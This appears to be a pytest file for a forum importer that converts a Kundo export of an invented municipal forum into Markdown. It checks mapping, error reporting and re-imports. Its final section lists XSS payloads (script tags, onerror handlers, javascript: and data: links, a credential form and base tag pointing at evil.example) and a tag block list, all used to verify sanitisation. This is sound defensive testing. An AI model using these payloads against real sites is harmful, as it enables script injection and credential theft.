"""torget import kundo: the fixture export in tests/data/kundo, and hostile HTML.

The fixture is an invented forum ("Fråga Sjövik", Sjöviks kommun) saved
as Kundo's public API returns it: properties.json, two dialog pages (50 +
7 dialogs, four of them broken on purpose) and one comments file per
dialog that has comments (one of them for a dialog that is not there).
"""

from __future__ import annotations

import json
import runpy
import shutil
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from markdown import Markdown

from torget.content.forum import display_path, load_forum
from torget.importers.common import edited_since_import
from torget.importers.html_markdown import html_to_markdown
from torget.importers.kundo import import_kundo
from torget.model import ThreadType
from torget_cli import main

ROOT = Path(__file__).resolve().parent.parent
FIXTURE = ROOT / "tests" / "data" / "kundo"
CONFIG = ROOT / "pelicanconf.py"


@pytest.fixture(scope="module")
def imported(tmp_path_factory):
    content = tmp_path_factory.mktemp("kundo") / "content"
    result = import_kundo(FIXTURE, content)
    return content, result, load_forum(content)


def by_id(forum, ident: int):
    return next(t for t in forum.threads if t.slug.startswith(f"kundo-{ident}-"))


def meta(thread) -> dict:
    return dict(thread.extra)


def test_every_good_dialog_becomes_a_valid_thread(imported):
    content, result, forum = imported
    assert str(result.summary) == "53 imported, 0 updated, 0 unchanged, 1 skipped, 6 errors"
    assert not result.ok
    assert len(forum.threads) == 53
    assert forum.problems == ()
    assert {p.parent.name for p in content.rglob("*.md")} == {"kundo"}
    assert all(t.slug.startswith("kundo-") and len(t.slug) <= 60 for t in forum.threads)


def test_topics_categories_and_staff_replies_are_mapped(imported):
    _, _, forum = imported
    glass = by_id(forum, 48312)  # topic "avfall", one of the forum's own categories
    assert (glass.type, glass.category) == (ThreadType.QUESTION, "Avfall och återvinning")
    assert glass.title == "När töms glasigloon vid Tallvägen?"
    assert glass.author == "Kerstin"
    assert str(glass.date) == "2025-03-11 09:00:00+01:00"
    assert meta(glass) | {"Source-Checksum": ""} == {
        "Source-Id": "48312",
        "Source-Url": "https://kundo.se/org/sjovik/d/nar-toms-glasigloon-vid-tallvagen/",
        "Source-Uri": "https://kundo.se/api/dialog/sjovik/48312.json",
        "Source-Topic": "avfall",
        "Source-State": "frågan är besvarad",
        "Source-Forum": "Sjöviks kommun",
        "Source-Kundo-vote_count": "0",  # not a documented field: kept, not dropped
        "Source-Kundo-user-gravatar_image": "https://secure.gravatar.com/avatar/d2d8d29713d3c7a3b17d09cad00e5227?s=47&d=mm",
        "Source-Checksum": "",
    }
    [answer] = glass.replies
    assert (answer.author, answer.role, answer.staff) == ("Maria", "Renhållningen", True)
    assert answer.avatar.startswith("https://secure.gravatar.com/avatar/")

    types = {t.type for t in forum.threads}
    assert types == set(ThreadType)
    praise = by_id(forum, 48303)  # topic "B"
    assert (praise.type, praise.category) == (ThreadType.PRAISE, "Allmänt")
    assert {t.category for t in forum.threads} == {"Allmänt", "Avfall och återvinning", "Förskola och skola", "Bygga och bo"}
    preschool = by_id(forum, 48288)  # the comment links to "/e-tjanster/forskola" on Kundo's page
    assert "[Förskola](https://kundo.se/e-tjanster/forskola)" in preschool.replies[0].body


def test_comments_come_in_date_order_and_bad_ones_are_left_out(imported):
    _, _, forum = imported
    broadband = by_id(forum, 48231)
    # The file holds four comments, newest first; one has no text and one
    # is dated before the dialog.
    assert [(r.author, r.staff) for r in broadband.replies] == [("Lena", True), ("Lars", False)]
    assert broadband.replies[0].role == "Kommunvägledare, Kontaktcenter"
    assert broadband.replies[0].date < broadband.replies[1].date
    assert "Stadsnätet" in broadband.replies[0].body


def test_every_problem_is_located_at_file_and_line(imported):
    _, result, _ = imported
    shown = {(Path(p.path).resolve().relative_to(FIXTURE).as_posix(), p.line, p.severity.value, p.message)
             for p in result.problems}
    assert shown == {
        ("comments/47001.json", 1, "warning", "comments for dialog 47001, which is not in the export, are skipped"),
        ("comments/48231.json", 2, "warning", "comment field 'id' is not imported (found 4 times; first here)"),
        ("comments/48231.json", 2, "error", "comment: no text; the comment is left out"),
        ("comments/48231.json", 35, "error", "comment: dated 2024-01-02T08:00:00, before its dialog; the comment is left out"),
        ("dialogs/page-1.json", 563, "warning",
         f"dialog 48213: num_comments is 3, but {display_path(FIXTURE / 'comments' / '48213.json')} holds 2"),
        ("dialogs/page-2.json", 53, "error", "dialog 48090: no title; the dialog is left out"),
        ("dialogs/page-2.json", 69, "error", "dialog 48089: unparsable pub_date 'igår'; the dialog is left out"),
        ("dialogs/page-2.json", 85, "error",
         "dialog 48088: unknown topic 'X' (expected one of: Q, P, S, B, avfall, skola, bygglov); the dialog is left out"),
        ("dialogs/page-2.json", 101, "error", "expected a dialog object, got null; left out"),
        ("properties.json", 1, "warning", "properties field 'thankyou_message' is not imported (found once; first here)"),
    }
    # The line is where the record starts in the file.
    page = (FIXTURE / "dialogs" / "page-2.json").read_text(encoding="utf-8").splitlines()
    assert page[52].strip() == "{" and '"id": 48090' in page[53]


def test_reimport_is_byte_identical_and_hand_edits_survive(tmp_path):
    content = tmp_path / "content"
    import_kundo(FIXTURE, content)
    before = {p: p.read_bytes() for p in content.rglob("*.md")}
    again = import_kundo(FIXTURE, content)
    assert str(again.summary) == "0 imported, 0 updated, 53 unchanged, 1 skipped, 6 errors"
    assert {p: p.read_bytes() for p in content.rglob("*.md")} == before

    edited = next(p for p in before if p.name.startswith("kundo-48312-"))
    assert not edited_since_import(edited.read_text(encoding="utf-8"))
    edited.write_text(edited.read_text(encoding="utf-8").replace("När töms den?", "När töms den? (rättat)"), encoding="utf-8")
    assert edited_since_import(edited.read_text(encoding="utf-8"))
    kept = import_kundo(FIXTURE, content)
    assert kept.summary.skipped == 2 and kept.summary.unchanged == 52
    assert any(p.path.endswith(edited.name) and "use --force" in p.message for p in kept.problems)
    assert "(rättat)" in edited.read_text(encoding="utf-8")

    forced = import_kundo(FIXTURE, content, force=True)
    assert forced.summary.updated == 1
    assert edited.read_bytes() == before[edited]


def test_a_changed_source_updates_the_same_file(tmp_path):
    source = tmp_path / "export"
    shutil.copytree(FIXTURE, source)
    content = tmp_path / "content"
    import_kundo(source, content)
    page = source / "dialogs" / "page-1.json"
    dialogs = json.loads(page.read_text(encoding="utf-8"))
    dialogs[0]["title"] = "När töms glasigloon vid Tallvägen och Ekvägen?"
    page.write_text(json.dumps(dialogs, ensure_ascii=False, indent=2), encoding="utf-8")
    result = import_kundo(source, content)
    assert (result.summary.updated, result.summary.imported) == (1, 0)
    [path] = content.glob("posts/kundo/kundo-48312-*.md")
    assert path.name == "kundo-48312-nar-toms-glasigloon-vid-tallvagen.md"  # the URL does not move
    assert "Title: När töms glasigloon vid Tallvägen och Ekvägen?" in path.read_text(encoding="utf-8")

    moved = content / "posts" / "2025" / path.name  # an editor sorts threads into folders
    moved.parent.mkdir()
    path.rename(moved)
    again = import_kundo(source, content)
    assert (again.summary.unchanged, again.summary.imported) == (53, 0)
    assert not path.exists() and moved.exists()


def test_one_page_file_finds_properties_and_comments_beside_it(tmp_path):
    result = import_kundo(FIXTURE / "dialogs" / "page-2.json", tmp_path)
    assert result.summary.imported == 3
    forum = load_forum(tmp_path)
    assert by_id(forum, 48162).replies[0].staff


def test_cli_prints_problems_and_exits_nonzero(tmp_path):
    runner = CliRunner()
    result = runner.invoke(main, ["import", "kundo", str(FIXTURE), "--config", str(CONFIG), "--content", str(tmp_path / "c")])
    assert result.exit_code == 1
    # in the sample forum's language
    assert "page-2.json:53: dialog 48090: ingen rubrik; dialogen hoppas över" in result.output
    assert "53 importerade, 0 uppdaterade, 0 oförändrade, 1 överhoppade, 6 fel" in result.output
    again = runner.invoke(main, ["import", "kundo", str(FIXTURE / "dialogs" / "page-1.json"), "--config", str(CONFIG),
                                 "--content", str(tmp_path / "c")])
    assert "0 importerade, 0 uppdaterade, 50 oförändrade" in again.output
    assert again.exit_code == 1  # the broken comments are still errors


# --- hostile HTML -------------------------------------------------------------
_settings = runpy.run_path(str(CONFIG))["MARKDOWN"]
_MARKDOWN = Markdown(extensions=list(_settings["extension_configs"]), extension_configs=_settings["extension_configs"],
                     output_format=_settings["output_format"])
SAFE_TAGS = {"p", "a", "img", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br",
             "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}


def render(markdown_text: str) -> BeautifulSoup:
    _MARKDOWN.reset()
    return BeautifulSoup(_MARKDOWN.convert(markdown_text), "html.parser")


def assert_safe(markdown_text: str) -> BeautifulSoup:
    soup = render(markdown_text)
    for tag in soup.find_all(True):
        assert tag.name in SAFE_TAGS, (tag, markdown_text)
        assert set(tag.attrs) <= {"href", "src", "alt", "title"}, (tag, markdown_text)
        for name in ("href", "src"):
            if tag.has_attr(name):
                assert tag[name].startswith(("https://", "http://", "mailto:")), (tag, markdown_text)
    assert "--- reply ---" not in markdown_text.splitlines()
    return soup


HOSTILE = [
    "<script>alert(1)</script>Hej",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">klicka</a>',
    '<a href="JaVaScRiPt:alert(1)">klicka</a>',
    '<a href="jav&#x09;ascript:alert(1)">klicka</a>',
    '<a href=" javascript:alert(1)">klicka</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klicka</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe><object data="evil.swf"></object><embed src="evil.swf">',
    '<p style="background:url(javascript:alert(1))" onclick="steal()">text</p>',
    "<style>@import 'https://evil.example/x.css';</style>Hej",
    '<form action="https://evil.example/"><input name="pw"><button>OK</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<p>[klicka](javascript:alert(1)) och ![x](javascript:alert(2))</p>",
    "<p>--- reply ---</p><p>Author: Angripare</p>",
    "<p>```</p><p>--- reply ---</p>",
    "<p>&amp;lt;b&amp;gt; och &amp;#60;script&amp;#62;</p>",
    "<p>{: onclick=alert(1) }</p><p>*[HTML]: attack</p>",
    "<pre><code>```\n--- reply ---\n</code></pre>",
    "<a href='https://ok.example/' onmouseover='alert(1)' style='x'>ok</a>",
    "<!-- <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]>",
    "<p>1. inte en lista</p><p>- inte heller</p><p># ingen rubrik</p><p>&gt; inget citat</p>",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_html_becomes_harmless_markdown(payload):
    markdown_text = html_to_markdown(payload, "https://kundo.se/org/sjovik/d/x/")
    soup = assert_safe(markdown_text)
    assert "alert(" not in " ".join(str(v) for tag in soup.find_all(True) for v in tag.attrs.values())
    for tag in ("script", "style", "iframe", "svg", "form", "input", "object", "embed", "meta", "base", "math"):
        assert not soup.find_all(tag)


def test_escaped_text_stays_visible_text():
    soup = assert_safe(html_to_markdown("<p>Skriv &lt;script&gt; och *inte* [x](y) eller 5 * 3 = 15 &amp; AT&amp;T</p>"))
    assert soup.get_text() == "Skriv <script> och *inte* [x](y) eller 5 * 3 = 15 & AT&T"


def test_structure_is_kept():
    html = (
        "<h2>Så gör du</h2><p>Gå till <a href='/e-tjanster'>e-tjänsterna</a> och välj <b>Ny ansökan</b>,"
        " <i>sedan</i> <code>Skicka</code>.<br>Klart!</p>"
        "<ol><li>Logga in</li><li>Fyll i<ul><li>namn</li><li>adress</li></ul></li></ol>"
        "<blockquote><p>Citat</p></blockquote><pre><code>rad 1\n\nrad 2</code></pre>"
        "<hr><img src='/bild.png' alt='Karta'><table><tr><th>Dag</th><th>Tid</th></tr><tr><td>Mån</td><td>8–16</td></tr></table>"
        "<p>Med <span>span</span>, <sup>upphöjt</sup> och <kbd>Ctrl</kbd>.</p>"
    )
    markdown_text = html_to_markdown(html, "https://www.sjovik.se/forum/")
    soup = assert_safe(markdown_text)
    assert soup.h2.get_text() == "Så gör du"
    assert soup.a["href"] == "https://www.sjovik.se/e-tjanster"
    assert soup.strong.get_text() == "Ny ansökan" and soup.em.get_text() == "sedan"
    assert soup.find("br") is not None
    assert [li.get_text(" ", strip=True) for li in soup.ol.find_all("li", recursive=False)] == ["Logga in", "Fyll i namn adress"]
    assert soup.ol.ul is not None
    assert soup.blockquote.get_text(strip=True) == "Citat"
    assert soup.pre.get_text() == "rad 1\n\nrad 2\n"
    assert soup.hr is not None
    assert (soup.img["src"], soup.img["alt"]) == ("https://www.sjovik.se/bild.png", "Karta")
    assert [td.get_text() for td in soup.find_all(["th", "td"])] == ["Dag", "Tid", "Mån", "8–16"]
    assert "Med span, upphöjt och" in soup.get_text()


def test_imported_dialog_with_hostile_html(imported):
    content, _, forum = imported
    thread = by_id(forum, 48159)
    text = next(content.glob("posts/kundo/kundo-48159-*.md")).read_text(encoding="utf-8")
    for bad in ("<script", "onerror", "javascript:", "<iframe", "<style", "onclick", "onmouseover", "alert"):
        assert bad not in text
    soup = assert_safe(thread.body)
    assert [a["href"] for a in soup.find_all("a")] == ["https://www.sjovik.se/bad"]
    assert "Vet någon varför?" in soup.get_text()
